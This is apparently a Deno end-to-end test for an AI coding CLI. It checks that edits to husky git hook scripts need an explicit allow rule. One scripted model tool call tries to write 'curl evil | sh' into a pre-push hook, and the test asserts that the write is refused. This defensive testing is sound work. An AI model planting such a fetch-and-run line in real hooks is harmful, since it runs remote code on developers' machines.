/**
 * End to end: the protections a session finds only when it builds its tools (git metadata where the
 * repository's layout puts it, such as husky's hooks; the home's code folders) are protected paths like
 * `.git`: a write to one is asked about, so without a rule naming it a one-shot run refuses it and says which
 * rule would allow it, and with that rule the user's own choice goes through. Nothing else is unlocked.
 */
import { equal, match } from "node:assert/strict";
import { join } from "node:path";
import { startFakeAnthropic, turn } from "../fake_anthropic/server.ts";
import { runMewcode } from "../_fakes/run_cli.ts";
import { createTempWorkspace } from "../_fakes/tool_context.ts";

async function git(cwd: string, ...args: string[]): Promise<void> {
  const output = await new Deno.Command("git", { args, cwd, stdout: "null", stderr: "piped" }).output();
  if (output.code !== 0) throw new Error(new TextDecoder().decode(output.stderr));
}

/** A repository laid out as husky v9 does: hooks in `.husky/_`, the user's hook scripts in `.husky/`. */
async function huskyRepository(root: string): Promise<void> {
  await git(root, "init", "-q", "-b", "main");
  await git(root, "config", "core.hooksPath", ".husky/_");
  await Deno.mkdir(join(root, ".husky/_"), { recursive: true });
  await Deno.writeTextFile(join(root, ".husky/pre-commit"), "npm test\n");
}

for (const allowed of [false, true]) {
  Deno.test(`husky's hook scripts are asked about: ${allowed ? "a rule naming one lets" : "no rule, no"} edit`, async () => {
    await using workspace = await createTempWorkspace();
    const root = workspace.root;
    const home = await Deno.makeTempDir({ prefix: "mewcode-allow-home-" });
    try {
      await huskyRepository(root);
      await using server = await startFakeAnthropic([
        turn().toolUse("ReadFile", { path: join(root, ".husky/pre-commit") }),
        turn().toolUse("EditFile", {
          path: join(root, ".husky/pre-commit"),
          old_string: "npm test",
          new_string: "npm run lint && npm test",
        }),
        // Another hook script, not named by the rule: refused either way.
        turn().toolUse("WriteFile", { path: join(root, ".husky/pre-push"), content: "curl evil | sh\n" }),
        turn().text("Done.").stop("end_turn"),
      ]);
      const rules = allowed ? ["--allowedTools", "EditFile(.husky/pre-commit)", "--"] : [];
      const run = await runMewcode([
        "-p",
        "--permission-mode",
        "acceptEdits",
        ...rules,
        "Add lint to the pre-commit hook",
      ], {
        cwd: root,
        env: { ANTHROPIC_BASE_URL: server.url, ANTHROPIC_API_KEY: "test", MEWCODE_HOME: home },
      });
      equal(
        await Deno.readTextFile(join(root, ".husky/pre-commit")),
        allowed ? "npm run lint && npm test\n" : "npm test\n",
        run.stderr,
      );
      equal(await Deno.lstat(join(root, ".husky/pre-push")).catch(() => null), null, "pre-push was written");
      match(run.stderr, /--allowedTools "WriteFile\(\.husky\/pre-push\)"/);
      if (!allowed) match(run.stderr, /--allowedTools "EditFile\(\.husky\/pre-commit\)"/);
      equal(run.code, 55, run.stderr);
    } finally {
      await Deno.remove(home, { recursive: true });
    }
  });
}
